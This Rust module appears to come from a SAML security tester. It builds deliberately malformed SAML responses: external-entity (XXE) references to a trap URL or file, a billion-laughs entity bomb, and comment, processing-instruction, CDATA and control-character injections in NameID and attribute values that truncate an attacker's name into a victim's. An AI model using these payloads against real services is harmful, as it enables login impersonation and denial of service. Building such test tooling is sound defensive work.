//! What XML makes possible and SAML forbids.

use super::{Wrong, wrong};
use crate::scene::{Scene, TRANSIENT};
use crate::xml::escaped;

pub(super) fn of(kind: &str) -> Option<Vec<Wrong>> {
    Some(match kind {
        "doctype" => vec![wrong("<!DOCTYPE> without entities", |s| {
            format!("<!DOCTYPE samlp:Response [<!ELEMENT x EMPTY>]>{}", s.draft().write())
        })],
        "entity-external" => vec![
            wrong("<!ENTITY SYSTEM http>", |s| with_entity(s, &format!("SYSTEM \"{}\"", s.trap_url()))),
            // An empty file: whoever reads it finds the signature in order.
            wrong("<!ENTITY SYSTEM file>", |s| with_entity(s, "SYSTEM \"file:///dev/null\"")),
            wrong("<!DOCTYPE SYSTEM http>", |s| {
                format!("<!DOCTYPE samlp:Response SYSTEM \"{}\">{}", s.trap_url(), s.draft().write())
            }),
        ],
        "entity-bomb" => vec![wrong("<!ENTITY> × 10⁸", |s| {
            let mut entities = "<!ENTITY a0 \"ha\">".to_owned();
            for level in 1..=8 {
                entities.push_str(&format!("<!ENTITY a{level} \"{}\">", format!("&a{};", level - 1).repeat(10)));
            }
            let message = s.draft().write().replacen("</saml:Issuer>", "&a8;</saml:Issuer>", 1);
            format!("<!DOCTYPE samlp:Response [{entities}]>{message}")
        })],
        "comment-in-name-id" => vec![wrong("NameID = victim<!---->.attacker", |s| {
            let name = format!("{}<!---->.attacker", escaped(&s.victim.name_id));
            s.asserting(|a| {
                if let Some(subject) = &mut a.subject {
                    subject.name_id = s.name_id(TRANSIENT, &name);
                }
                a.attributes = Some(s.attributes(&s.genuine));
            })
        })],
        "comment-in-attribute" => vec![wrong("AttributeValue = victim<!---->.attacker", |s| cut_by(s, "<!---->", ""))],
        "instruction-in-attribute" => {
            vec![
                wrong("AttributeValue = victim<?x?>.attacker", |s| cut_by(s, "<?samspel x?>", "")),
                wrong("AttributeValue = victim<![CDATA[.attacker]]>", |s| cut_by(s, "<![CDATA[", "]]>")),
            ]
        }
        "characters" => vec![
            wrong("AttributeValue = victim&#0;.attacker", |s| cut_by(s, "&#0;", "")),
            wrong("AttributeValue = victim&#1;.attacker", |s| cut_by(s, "&#1;", "")),
        ],
        _ => return None,
    })
}

/// Whether a kind shows only on a page with the NameID (true), or only on one with attributes (false).
pub(super) fn needs_shown(kind: &str) -> Option<bool> {
    match kind {
        "comment-in-name-id" => Some(true),
        "comment-in-attribute" | "instruction-in-attribute" | "characters" => Some(false),
        _ => None,
    }
}

/// Somebody else's name, which begins as the victim's does. A service that cuts it at the comment shows the victim.
fn cut_by(scene: &Scene<'_>, cut: &str, end: &str) -> String {
    let eppn = format!("{}{cut}.attacker{end}@{}", scene.victim.local, scene.victim.scope);
    scene.asserting(|a| {
        let mut attributes = scene.attributes(&scene.genuine);
        for attribute in attributes.iter_mut().filter(|own| Some(own.name.as_str()) == scene.shown()) {
            attribute.values = vec![eppn.clone()];
        }
        a.attributes = Some(attributes);
        if let Some(subject) = &mut a.subject {
            subject.name_id = scene.name_id(TRANSIENT, &escaped(&scene.genuine.name_id));
        }
    })
}

fn with_entity(scene: &Scene<'_>, definition: &str) -> String {
    let message = scene.draft().write().replacen("</saml:Issuer>", "&x;</saml:Issuer>", 1);
    format!("<!DOCTYPE samlp:Response [<!ENTITY x {definition}>]>{message}")
}
